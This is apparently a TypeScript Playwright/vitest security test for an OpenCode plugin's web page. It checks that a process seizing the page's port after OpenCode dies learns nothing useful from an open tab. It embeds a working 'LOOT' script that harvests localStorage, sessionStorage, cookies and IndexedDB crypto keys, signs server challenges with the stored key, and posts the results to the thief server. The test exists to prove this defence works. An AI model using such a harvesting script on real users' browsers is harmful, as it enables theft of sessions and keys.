import { createServer, type IncomingMessage, type Server } from "node:http"
import { join } from "node:path"
import type { BrowserContext, Page } from "playwright-core"
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest"
import { linkOf } from "../../src/features/web/address.ts"
import { startBrowser } from "../support/browser.ts"
import { eventually } from "../support/eventually.ts"
import { type ScriptedModel, startModel } from "../support/model.ts"
import { type Opencode, startOpencode } from "../support/opencode.ts"
import { live } from "../support/page.ts"
import { addressOf } from "../support/page-server.ts"
import { PACKAGE, startPlugged } from "../support/plugin.ts"
import { freePort } from "../support/server-process.ts"

/** Who takes the page's port when OpenCode has ended, with a tab of its still open. */

let model: ScriptedModel
let opencode: Opencode
const browser = await startBrowser()
if (!browser) console.warn("No Chromium: the page is not tested here.")
const thieves: Server[] = []
const contexts: BrowserContext[] = []

beforeAll(async () => {
  model = await startModel()
  opencode = await startPlugged(model, { web: { port: await freePort() } })
})
afterEach(async () => {
  for (const context of contexts.splice(0)) await context.close()
  for (const thief of thieves.splice(0)) await ended(thief)
})
afterAll(async () => {
  await browser?.close()
  await opencode?.stop()
  await model?.close()
})

/**
 * What the thief's page takes from the browser that it is loaded in, and sends home: all that is kept there, and what it
 * can have signed by a key that it cannot read, for the server at its new port.
 */
const LOOT = `<script>(async () => {
  const all = (area) => Object.entries({ ...area })
  const kept = []
  const signed = []
  for (const { name } of await indexedDB.databases()) {
    const open = indexedDB.open(name)
    await new Promise((done) => { open.onsuccess = done })
    for (const store of open.result.objectStoreNames) {
      const request = open.result.transaction(store).objectStore(store).getAll()
      await new Promise((done) => { request.onsuccess = done })
      for (const { id, key } of request.result)
        for (const format of ["raw", "jwk"])
          kept.push([id, key.extractable, await crypto.subtle.exportKey(format, key).catch((error) => error.name)])
      for (const { id, key } of request.result) {
        const { boot } = await (await fetch("/hello?id=" + id + "&nonce=" + "0".repeat(32))).json()
        const mac = await crypto.subtle.sign("HMAC", key, new TextEncoder().encode("superagents access\\n" + boot))
        const text = btoa(String.fromCharCode(...new Uint8Array(mac)))
        signed.push(id + "." + text.replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", ""))
      }
    }
  }
  await fetch("/loot", { method: "POST", body: JSON.stringify([all(localStorage), all(sessionStorage), document.cookie, kept, signed]) })
})()</script>`

type Taken = {
  readonly url: string
  readonly method: string
  readonly headers: IncomingMessage["headers"]
  readonly body: string
}

/** Listens at the port, answers `reply`, and keeps all that it is sent. */
async function steal(port: number, reply: (taken: Taken) => Promise<string> | string) {
  const taken: Taken[] = []
  const thief = createServer(async (request, response) => {
    let body = ""
    for await (const chunk of request) body += chunk
    const { url = "", method = "", headers } = request
    taken.push({ url, method, headers, body })
    const text = await reply(taken.at(-1) as Taken)
    response.writeHead(200, { "content-type": text.startsWith("{") ? "application/json" : "text/html" })
    response.end(text)
  })
  thieves.push(thief)
  await eventually(
    () =>
      new Promise<boolean>((resolve) => {
        thief.once("error", () => resolve(false))
        thief.listen(port, "127.0.0.1", () => resolve(true))
      }),
  )
  return { taken, end: () => ended(thief) }
}

const ended = (server: Server) =>
  new Promise<void>((resolve) => {
    server.close(() => resolve())
    server.closeAllConnections()
  })

async function open(of = opencode): Promise<{ page: Page; link: string }> {
  const context = await browser?.newContext()
  if (!context) throw new Error("no browser")
  contexts.push(context)
  const page = await context.newPage()
  const link = linkOf(await addressOf(of))
  await page.goto(link)
  await live(page)
  return { page, link }
}

describe.skipIf(!browser)("a port thief", () => {
  test("a process that takes over the page's port gets nothing useful from an open tab", async () => {
    const { page, link } = await open()
    const before = await addressOf(opencode)
    const port = Number(new URL(before.url).port)
    const [secret = ""] = link.split(".").slice(-1)
    await opencode.kill("SIGKILL")
    // 1. It answers.
    const first = await steal(port, () => "{}")
    await eventually(() => first.taken.length > 1)
    await page.getByText("cannot prove that it is the OpenCode").waitFor()
    for (const { method, url, headers, body } of first.taken) {
      expect([method, body, headers.authorization, headers.cookie]).toEqual(["GET", "", undefined, undefined])
      expect(url).toMatch(/^\/hello\?id=p\.\d+\.[\w-]{22}&nonce=[\da-f]{32}$/)
    }
    await first.end()
    // 2. OpenCode is back, at another port since this one is taken, and the thief passes the tab's questions on to it.
    let moved = ""
    const second = await steal(port, async ({ url }) => (moved === "" ? "{}" : (await fetch(`${moved}${url}`)).text()))
    await opencode.restart()
    moved = await eventually(async () => {
      const now = await addressOf(opencode)
      return now.boot !== before.boot && now.url
    })
    expect(moved).not.toBe(before.url)
    await page.getByText(`OpenCode serves this page at ${moved}, and this is ${before.url}.`).waitFor()
    await second.end()
    // 3. Its own page is loaded in the tab.
    const third = await steal(port, async ({ url }) => {
      if (url.startsWith("/hello")) return (await fetch(`${moved}${url}`)).text()
      return url === "/" ? LOOT : ""
    })
    await page.reload()
    const { body } = await eventually(() => third.taken.find(({ url }) => url === "/loot"))
    const [local, session, cookie, kept, signed] = JSON.parse(body)
    expect(JSON.stringify([local, session, cookie])).not.toMatch(/token|secret|key|code/i)
    const { id } = JSON.parse(JSON.stringify({ id: kept[0][0] })) as { id: string }
    expect(kept).toEqual([
      [id, false, "InvalidAccessError"],
      [id, false, "InvalidAccessError"],
    ])
    await third.end()
    const loot = JSON.stringify([first.taken, second.taken, third.taken])
    for (const each of [before.token, before.key, secret]) expect(loot).not.toContain(each)
    // Nor does what it heard open anything at the server.
    expect(signed).toHaveLength(1)
    for (const bearer of [...signed, id, `${id}.`, `${id}.${"A".repeat(43)}`]) {
      const headers = { authorization: `Bearer ${bearer}` }
      expect((await fetch(`${moved}/api/agents`, { headers })).status).toBe(401)
    }
  }, 240_000)

  test("an open tab waits while a foreign process holds the port, and continues when OpenCode is back", async () => {
    const { page } = await open()
    const { url } = await addressOf(opencode)
    await opencode.kill("SIGKILL")
    const thief = await steal(Number(new URL(url).port), () => "{}")
    await page.getByText("cannot prove that it is the OpenCode").waitFor()
    await thief.end()
    await opencode.restart()
    await live(page, 60_000)
    expect((await addressOf(opencode)).url).toBe(url)
  }, 240_000)
})

test.skipIf(!browser)(
  "two projects and their tabs keep their ports whatever order the projects restart in",
  async () => {
    const port = await freePort()
    const plugin: [string, Record<string, unknown>][] = [[PACKAGE, { web: { port } }]]
    const one = await startOpencode({ model, plugin })
    const env = { XDG_STATE_HOME: join(one.home, "state") }
    const other = await startOpencode({ model, plugin, env })
    try {
      // Their files lie in one folder: each is told by the other's address.
      const all = async () => {
        const { readdirSync, readFileSync } = await import("node:fs")
        const folder = join(one.home, "state", "opencode", "superagents")
        const names = readdirSync(folder).filter((name) => /^web-\w+\.json$/.test(name))
        return names.map(
          (name) => JSON.parse(readFileSync(join(folder, name), "utf8")) as { url: string; boot: string; link: string },
        )
      }
      const before = await eventually(async () => {
        const found = await all()
        return found.length === 2 && found.every(({ url }) => url !== "") && found
      })
      const context = await browser?.newContext()
      if (!context) throw new Error("no browser")
      contexts.push(context)
      const tabs: Page[] = []
      for (const { link } of before) {
        const page = await context.newPage()
        await page.goto(link)
        await live(page)
        tabs.push(page)
      }
      await Promise.all([one.kill("SIGKILL"), other.kill("SIGKILL")])
      await other.restart()
      await eventually(
        async () => (await all()).filter(({ boot }) => before.some((each) => each.boot === boot)).length === 1,
      )
      await one.restart()
      const after = await eventually(async () => {
        const found = await all()
        return found.every(({ boot }) => before.every((each) => each.boot !== boot)) && found
      })
      expect(after.map(({ url }) => url)).toEqual(before.map(({ url }) => url))
      for (const page of tabs) {
        await page.bringToFront()
        await live(page, 60_000)
      }
    } finally {
      await other.stop()
      await one.stop()
    }
  },
  240_000,
)
